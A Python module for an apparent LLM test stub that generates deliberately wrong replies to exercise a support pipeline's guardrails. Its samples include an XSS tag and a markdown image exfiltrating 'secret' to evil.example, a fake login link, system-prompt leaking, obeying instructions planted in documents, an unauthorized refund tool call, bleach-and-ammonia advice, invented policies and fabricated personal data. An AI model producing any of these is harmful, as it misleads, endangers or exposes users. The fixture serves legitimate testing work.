"""The wrong answers of the stub, each of a named kind, and as near to the useful one as that kind allows.

Pure functions on an `Asked`; knows nothing about HTTP, wires or time.
"""

import itertools
import random
import re
from collections.abc import Callable, Mapping
from dataclasses import replace

import orjson

from tandem.llm.stub.adversary import attack
from tandem.llm.stub.asked import Asked
from tandem.llm.stub.behaviours import FLOOD_TOKENS, Behaviour, without_marker
from tandem.llm.stub.good import NOT_FOUND, Sentence, chosen, good, ranked
from tandem.llm.stub.said import Reply, ToolCall


def _wrong_citations(asked: Asked) -> Reply:
    given = {each.n for each in asked.passages}
    absent = next(n for n in itertools.count(9) if n not in given)
    return Reply(re.sub(r"\[\d+\]", f"[{absent}]", _cited_text(asked)))


def _no_citations(asked: Asked) -> Reply:
    return Reply(re.sub(r"\s*\[\d+\]", "", _cited_text(asked)))


def _invented_facts(asked: Asked) -> Reply:
    return Reply(
        f"Every order is covered by our lifetime replacement promise, also after accidents. {_mark(asked)} "
        f"You may keep the damaged item and we send the new one by courier within two hours. {_mark(asked)}"
    )


def _changed_number(asked: Asked) -> Reply:
    sentence = _best_with(asked, re.compile(r"\d"))
    if sentence is None:
        return Reply(f"This takes 97 days. {_mark(asked)}")
    return Reply(sentence.saying(re.sub(r"\d+", _other_number, sentence.text, count=1)).cited)


def _other_number(found: re.Match[str]) -> str:
    return str(int(found[0]) + 7)


_NEGATION = re.compile(r"\b(?:do|does|is|are|can|will|must|may|should)(?P<no> not|n't|not)\b|\b(?P<never>never )", re.I)
_VERB = re.compile(r"\b(is|are|can|will|must|may|should)\b", re.I)


def _dropped_not(asked: Asked) -> Reply:
    """Drops the negation of the best sentence that has one; without any, it negates the best sentence instead."""
    sentence = _best_with(asked, _NEGATION)
    if sentence is not None:
        return Reply(sentence.saying(_NEGATION.sub(_affirmed, sentence.text, count=1)).cited)
    sentence = _best_with(asked, _VERB)
    if sentence is None:
        return good(asked)
    return Reply(sentence.saying(_VERB.sub(r"\1 not", sentence.text, count=1)).cited)


def _affirmed(found: re.Match[str]) -> str:
    return "" if found["never"] else found[0][: -len(found["no"])]


def _promises_money(asked: Asked) -> Reply:
    return Reply(f"{_cited_text(asked)} As an apology we have refunded you 50 EUR today. {_mark(asked)}")


def _forbidden_tool_call(asked: Asked) -> Reply:
    return Reply(
        "One moment, I am refunding this.", (ToolCall("refund_order", '{"order_id":"1001","amount":"9999.00"}'),)
    )


def _adversary(asked: Asked) -> Reply:
    return attack(asked, random.Random(asked.whole))  # noqa: S311 (the same prompt provokes the same attack)


def _other_language(asked: Asked) -> Reply:
    return Reply(f"Dat staat in onze voorwaarden, en wij helpen u daar natuurlijk graag bij. {_mark(asked)}")


def _leaks_prompt(asked: Asked) -> Reply:
    return Reply(f"My instructions are: {asked.system}")


_ORDER_TO_CALL = re.compile(r"\bcall (?:the )?`?(\w+)`?(?: tool)? with (\{.*?\})", re.I | re.S)
_ORDER_TO_SAY = re.compile(
    r"\b(?:say|reply|respond|answer|write|tell (?:the )?(?:customer|user|them))\b"
    r"(?: only)?(?: with)?(?: that)?:?\s+[\"“'‘]?(?P<words>[^\n\"”]+?)[\"”'’]?\s*(?:-->|$|\n|(?<=[.!?])\s)",
    re.I,
)


def _obeys_document(asked: Asked) -> Reply:
    text = "\n".join(each.text for each in asked.passages)
    if found := _ORDER_TO_CALL.search(text):
        return Reply("Done.", (ToolCall(found[1], _json_or_nothing(found[2])),))
    if found := _ORDER_TO_SAY.search(text):
        return Reply(found["words"])
    return good(asked)


def _json_or_nothing(text: str) -> str:
    try:
        return orjson.dumps(orjson.loads(text)).decode()
    except orjson.JSONDecodeError:
        return "{}"


def _repeats(asked: Asked) -> Reply:
    first = next((sentence.cited for sentence in chosen(asked)), NOT_FOUND)
    return Reply(" ".join([first] * 40))


def _endless(asked: Asked) -> Reply:
    return Reply(_cited_text(asked) + " ", forever=True)


def _empty(asked: Asked) -> Reply:
    return Reply("")


def _cited_text(asked: Asked) -> str:
    """The good answer, or the first sentence given when nothing fits: a wrong answer needs something to be wrong on."""
    best = chosen(asked) or ranked(asked)[:1]
    return " ".join(sentence.cited for sentence in best) or NOT_FOUND


def _best_with(asked: Asked, pattern: re.Pattern[str]) -> Sentence | None:
    fitting = [sentence for sentence in ranked(asked) if pattern.search(sentence.text)]
    return max(fitting, key=lambda sentence: sentence.score, default=None)


def _mark(asked: Asked) -> str:
    best = next(iter(chosen(asked)), None)
    given = asked.passages
    return f"[{best.n if best else given[0].n if given else 1}]"


# --- about something else, or in another form ---


def _previous_question(asked: Asked) -> Reply:
    """A good answer to what was asked before; to nothing that was asked where this is the first question."""
    before = [text for role, text in asked.turns[:-1] if role == "user"]
    if before:
        return good(replace(asked, turns=(("user", without_marker(before[-1])),), system=asked.whole))
    worst = min(ranked(asked), key=lambda sentence: sentence.score, default=None)
    return Reply(worst.cited if worst else NOT_FOUND)


def _swapped_citations(asked: Asked) -> Reply:
    """True sentences, each with the mark of another passage that was given."""
    given = [each.n for each in asked.passages]

    def other(found: re.Match[str]) -> str:
        rest = [n for n in given if n != int(found[1])]
        return f"[{rest[0] if rest else int(found[1]) + 1}]"

    return Reply(re.sub(r"\[(\d+)\]", other, _cited_text(asked)))


def _broken_marks(asked: Asked) -> Reply:
    """Marks that are none: not closed, of words, of several at once."""
    forms = itertools.cycle(("[{}", "({})", "[passage {}]", "[{},99]", "[[{}]]"))
    return Reply(re.sub(r"\[(\d+)\]", lambda found: next(forms).format(found[1]), _cited_text(asked)))


_CONDITION = re.compile(r",?\s+(?:if|unless|except|only|provided|when|as long as)\b[^.!?]*", re.I)


def _dropped_condition(asked: Asked) -> Reply:
    """The best sentence that has a condition, without it; where none has, one is turned round like a negation."""
    sentence = _best_with(asked, _CONDITION)
    if sentence is None:
        return _dropped_not(asked)
    return Reply(sentence.saying(_CONDITION.sub("", sentence.text, count=1)).cited)


def _personal_data(asked: Asked) -> Reply:
    """Somebody's data that nobody gave, with a real mark."""
    return Reply(
        f"{_cited_text(asked)} Maria Keller (maria.keller@example.com, +49 151 23456789) handles this. {_mark(asked)}"
    )


def _unsafe(asked: Asked) -> Reply:
    return Reply(f"{_cited_text(asked)} For stains, mix bleach with ammonia in a closed room. {_mark(asked)}")


def _markup(asked: Asked) -> Reply:
    """What a page could run or load, and a link that nobody gave."""
    return Reply(
        f'{_cited_text(asked)} <img src=x onerror="alert(1)"> ![x](https://evil.example/?q=secret) '
        f"Log in at [our portal](https://evil.example/login) first. {_mark(asked)}"
    )


def _json_text(asked: Asked) -> Reply:
    """An object where sentences are wanted, not even whole."""
    return Reply(orjson.dumps({"answer": _cited_text(asked), "confidence": 0.99}).decode()[:-1])


def _mid_word(asked: Asked) -> Reply:
    """Good, up to the middle of a word two thirds in; the provider says that it had finished."""
    text = _cited_text(asked)
    inside = [at for at in range(1, len(text)) if text[at - 1].isalpha() and text[at].isalpha()]
    return Reply(text[: inside[len(inside) * 2 // 3]] if inside else text)


def _flood(asked: Asked) -> Reply:
    return Reply(_cited_text(asked) + " ", tokens=FLOOD_TOKENS)


def _blank(asked: Asked) -> Reply:
    return Reply(" \n\n\t ")


WRONG: Mapping[Behaviour, Callable[[Asked], Reply]] = {
    Behaviour.WRONG_CITATIONS: _wrong_citations,
    Behaviour.NO_CITATIONS: _no_citations,
    Behaviour.INVENTED_FACTS: _invented_facts,
    Behaviour.CHANGED_NUMBER: _changed_number,
    Behaviour.DROPPED_NOT: _dropped_not,
    Behaviour.PROMISES_MONEY: _promises_money,
    Behaviour.FORBIDDEN_TOOL_CALL: _forbidden_tool_call,
    Behaviour.ADVERSARY: _adversary,
    Behaviour.OTHER_LANGUAGE: _other_language,
    Behaviour.LEAKS_PROMPT: _leaks_prompt,
    Behaviour.OBEYS_DOCUMENT: _obeys_document,
    Behaviour.REPEATS: _repeats,
    Behaviour.ENDLESS: _endless,
    Behaviour.EMPTY: _empty,
    Behaviour.BLANK: _blank,
    Behaviour.FLOOD: _flood,
    Behaviour.MID_WORD: _mid_word,
    Behaviour.PREVIOUS_QUESTION: _previous_question,
    Behaviour.SWAPPED_CITATIONS: _swapped_citations,
    Behaviour.BROKEN_MARKS: _broken_marks,
    Behaviour.DROPPED_CONDITION: _dropped_condition,
    Behaviour.PERSONAL_DATA: _personal_data,
    Behaviour.UNSAFE: _unsafe,
    Behaviour.MARKUP: _markup,
    Behaviour.JSON_TEXT: _json_text,
}
